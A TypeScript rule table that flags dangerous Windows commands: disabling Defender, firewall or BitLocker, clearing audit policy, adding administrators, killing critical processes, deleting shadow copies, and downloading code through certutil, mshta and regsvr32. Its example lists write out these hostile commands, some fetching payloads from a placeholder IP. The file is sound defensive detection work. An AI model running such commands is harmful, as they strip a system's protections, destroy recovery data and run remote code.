import { commandTable, localRow, type CommandRow } from '../commandTable.ts';

/** PowerShell's names are written in any case: the reader gives them as they stand. */
function cmdlets(patterns: Readonly<Record<string, RegExp>>): CommandRow['on'] {
  return Object.fromEntries(
    Object.entries(patterns).flatMap(([name, pattern]) => [
      [name, pattern],
      [name.toLowerCase(), pattern],
    ]),
  );
}

/** Guards of Windows, powers of accounts, processes and stores that its own commands weaken or empty. */
export const moreWindowsTools = [
  commandTable('windows', [
    localRow({
      id: 'windows.weaken',
      effect: 'escalate',
      resource: 'protection',
      title: 'Take away a protection of Windows: {name}',
      source: 'https://learn.microsoft.com/powershell/module/defender/set-mppreference',
      on: {
        ...cmdlets({
          'Set-MpPreference':
            /-(?:Disable\w+ (?!\$?false|0)|ExclusionPath|Exclusion\w+|MAPSReporting 0|SubmitSamplesConsent 2|EnableControlledFolderAccess (?:0|Disabled))/i,
          'Add-MpPreference': /-Exclusion\w+/i,
          'Remove-MpPreference': /-AttackSurface\w+|-Controlled\w+/i,
          'Set-NetFirewallProfile': /-Enabled:? ?\$?(?:False|0)/i,
          'Disable-NetFirewallRule': /\S/,
          'Set-ExecutionPolicy':
            /(?:Unrestricted|Bypass).*(?:LocalMachine)|LocalMachine.*(?:Unrestricted|Bypass)|^(?:-\S+ )*(?:Unrestricted|Bypass)(?: -Force)?$/i,
          'Add-LocalGroupMember': /Administrators/i,
          'Add-ADGroupMember': /Admins|Administrators/i,
          'Disable-WindowsOptionalFeature': /Defender|SecureBoot|BitLocker|Hypervisor/i,
          'Uninstall-WindowsFeature': /\S/,
          'Disable-BitLocker': /\S/,
          'Suspend-BitLocker': /\S/,
          'Disable-LocalUser': /\S/,
          'Disable-ADAccount': /^/,
          'Set-ADAccountPassword': /-Reset\b/i,
          'Stop-Service':
            /\b(?:WinDefend|MpsSvc|wscsvc|EventLog|Sense|SecurityHealthService|sshd|VSS|wuauserv|Dhcp|Dnscache|LanmanServer)\b/i,
          'Set-Service':
            /\b(?:WinDefend|MpsSvc|wscsvc|EventLog|Sense)\b.*Disabled|Disabled.*\b(?:WinDefend|MpsSvc|wscsvc|EventLog|Sense)\b/i,
          'Set-SmbServerConfiguration': /-(?:RequireSecuritySignature|EnableSecuritySignature) \$?false|-EnableSMB1Protocol \$?true/i,
          'Disable-NetAdapter': /\S/,
          'Enable-PSRemoting': /-SkipNetworkProfileCheck/i,
        }),
        net: /^stop (?:windefend|mpssvc|wscsvc|eventlog|sense|securityhealthservice|"?windows defender.*|"?security center"?)|^(?:user|localgroup|group) .*\/add\b|^user \S+ .*\/active:no|^accounts .*\/(?:minpwlen:0|lockoutthreshold:0)|^share \S+ \/delete/i,
        net1: /^stop (?:windefend|mpssvc|wscsvc|eventlog|sense)/i,
        'manage-bde': /^-(?:forcerecovery|off|disable|wipefreespace|protectors -delete)|-protectors\b.*-delete/i,
        auditpol: /\/(?:clear|remove|set .*:disable)/i,
        dism: /\/disable-feature\b|\/remove-package\b|\/apply-image\b/i,
        powercfg: /\/(?:hibernate|h) off|-delete\b/i,
        sc: /^sdset\b/i,
      },
      examples: [
        'net stop WinDefend',
        'net localgroup administrators ada /add',
        'manage-bde -off C:',
        'auditpol /clear /y',
        'dism /online /disable-feature /featurename:x',
      ],
      nearMisses: [
        'net start',
        'net use',
        'net stop spooler',
        'manage-bde -status',
        'auditpol /get /category:*',
        'dism /online /get-features',
      ],
    }),
    localRow({
      id: 'windows.stopMany',
      resource: 'processes',
      title: 'Stop processes that nobody has named: {name}',
      source: 'https://learn.microsoft.com/powershell/module/microsoft.powershell.management/stop-process',
      on: {
        ...cmdlets({
          'Stop-Process':
            /-Name:? ?["']?(?:\*|sqlservr|mysqld|postgres|mongod|redis-server|w3wp|vmms|explorer|lsass|winlogon|csrss|svchost|services|wininit)|^(?:-Force)?$|^["']?\*/i,
          kill: /^-Name \*/i,
          'Stop-Service': /(?:^|[ ,])["']?\*|^(?:-Force ?|-Confirm:\S+ ?)*$/i,
          'Unregister-ScheduledTask': /-Confirm:\s?\$?false|\*/i,
          'Remove-CimInstance': /^/,
          'Remove-WmiObject': /\S/,
          'Clear-Recyclebin': /-DriveLetter/i,
        }),
        forfiles: /\/c (?:"|')?(?:cmd (?:\/\w )+)?(?:del|erase|rd|rmdir)\b/i,
        mountvol: /\/[dr]\b/i,
        bitsadmin: /\/reset\b.*\/allusers/i,
        choco: /^(?:uninstall|remove)\b.*\ball\b/i,
        spps: /^(?:-Name )?\*/i,
        taskkill:
          /\/im (?:\*|explorer\.exe|lsass\.exe|winlogon\.exe|csrss\.exe|svchost\.exe|services\.exe|wininit\.exe|sqlservr\.exe|mysqld\.exe|postgres\.exe)/i,
        logoff: /^/,
        tsdiscon: /^/,
      },
      examples: [
        'taskkill /f /im *',
        'taskkill /f /im explorer.exe',
        'forfiles /p data /s /m *.* /c "cmd /c del @path"',
        'mountvol d: /d',
        'powershell -Command "Unregister-ScheduledTask -TaskName * -Confirm:$false"',
        'powershell -Command "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"',
        'powershell -Command "Get-Service | Stop-Service -Force"',
      ],
      nearMisses: [
        'taskkill /f /im node.exe',
        'forfiles /p logs /c "cmd /c echo @file"',
        'mountvol',
        'powershell -Command "Stop-Service -Name Spooler"',
        'taskkill /pid 1234 /f',
        'tasklist',
      ],
    }),
    localRow({
      id: 'windows.runsDownload',
      effect: 'opaque',
      resource: 'program',
      title: 'Fetch or run a program by a way made for something else: {name}',
      source: 'https://learn.microsoft.com/windows-server/administration/windows-commands/certutil',
      on: {
        certutil: /-(?:urlcache|verifyctl)\b.*https?:/i,
        bitsadmin: /\/transfer\b.*https?:/i,
        mshta: /https?:|javascript:|vbscript:/i,
        regsvr32: /\/i:https?:/i,
        rundll32: /javascript:|https?:|url\.dll/i,
        msiexec: /\/i(?:\s|:)?\s?"?http:/i,
        wscript: /https?:/i,
        cscript: /https?:/i,
        '%0': /^/,
        start: /^%0/,
      },
      examples: [
        'certutil -urlcache -f http://192.0.2.1/x.exe x.exe',
        'mshta http://192.0.2.1/x.hta',
        'regsvr32 /s /u /i:http://192.0.2.1/x.sct scrobj.dll',
      ],
      nearMisses: ['certutil -hashfile x.exe SHA256', 'msiexec /i x.msi', 'rundll32 user32.dll,LockWorkStation'],
    }),
  ]),
];
